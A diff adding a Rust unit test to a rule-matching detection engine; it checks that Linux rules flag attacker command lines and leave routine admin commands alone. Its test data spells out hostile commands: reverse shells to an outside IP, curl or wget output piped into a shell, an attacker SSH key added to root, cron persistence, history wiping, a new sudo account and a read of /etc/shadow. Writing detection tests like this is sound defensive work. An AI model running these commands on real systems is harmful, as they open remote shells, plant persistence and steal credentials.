@@ -894,3 +894,91 @@ fn routing_by_logsource() {
     let reg = json!({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 13, "TargetObject": "HKLM\\Run"});
     assert_eq!(ids(reg), vec!["g"], "registry_event covers registry_set");
 }
+
+#[test]
+fn linux_command_lines_meet_the_linux_rules_and_admin_work_does_not() {
+    let set = RuleSet::embedded();
+    let titles = |cmd: &str| -> Vec<String> {
+        let a = Alert::from_json(
+            &json!({"alert_id": "L-1", "timestamp": "2026-04-19T03:14:22Z", "source": "edr", "severity": "high",
+                    "title": "Process execution", "raw_log": {"event_type": "process_creation", "host": "web-3",
+                    "image": "/usr/bin/bash", "command_line": cmd}})
+            .to_string(),
+            &Limits::default(),
+        )
+        .expect("alert");
+        set.match_alert(&a)
+            .into_iter()
+            .filter(|m| m.rule.logsource.product.as_deref() == Some("linux"))
+            .map(|m| m.rule.title.clone())
+            .collect()
+    };
+    for (cmd, want) in [
+        (
+            "bash -i >& /dev/tcp/45.83.64.12/4444 0>&1",
+            "Interactive Shell Bound To A Network Socket",
+        ),
+        (
+            "nc -e /bin/sh 45.83.64.12 4444",
+            "Interactive Shell Bound To A Network Socket",
+        ),
+        (
+            "curl -fsSL http://45.83.64.12/x.sh | bash",
+            "Remote Script Piped Straight Into A Shell",
+        ),
+        (
+            "wget -qO- https://evil.example/i | sudo sh",
+            "Remote Script Piped Straight Into A Shell",
+        ),
+        (
+            "echo YmFzaCAtaQ== | base64 -d | bash",
+            "Base64 Payload Decoded Into A Shell",
+        ),
+        (
+            "echo ssh-ed25519 AAAAC3Nz attacker >> /root/.ssh/authorized_keys",
+            "SSH Authorized Keys Changed From The Command Line",
+        ),
+        (
+            "(crontab -l; echo '* * * * * /tmp/.x') | crontab -",
+            "Cron Job Written From The Command Line",
+        ),
+        (
+            "echo '*/5 * * * * root /tmp/m' >> /etc/cron.d/sys",
+            "Cron Job Written From The Command Line",
+        ),
+        (
+            "unset HISTFILE; history -c",
+            "Shell History Cleared Or Disabled",
+        ),
+        (
+            "rm -f /root/.bash_history",
+            "Shell History Cleared Or Disabled",
+        ),
+        (
+            "useradd -m -s /bin/bash backup2",
+            "Local Account Created Or Given Administrator Rights",
+        ),
+        (
+            "usermod -aG sudo backup2",
+            "Local Account Created Or Given Administrator Rights",
+        ),
+        ("cat /etc/shadow", "Password Hashes Read Or Copied"),
+    ] {
+        assert!(
+            titles(cmd).iter().any(|t| t == want),
+            "{cmd}: {:?}",
+            titles(cmd)
+        );
+    }
+    for benign in [
+        "ls -la /etc/cron.d",
+        "curl -fsSL https://example.org/file.tar.gz -o file.tar.gz",
+        "cat /etc/passwd",
+        "history | tail",
+        "ssh-keygen -t ed25519",
+        "systemctl restart nginx",
+        "grep sudo /var/log/auth.log",
+    ] {
+        assert!(titles(benign).is_empty(), "{benign}: {:?}", titles(benign));
+    }
+}
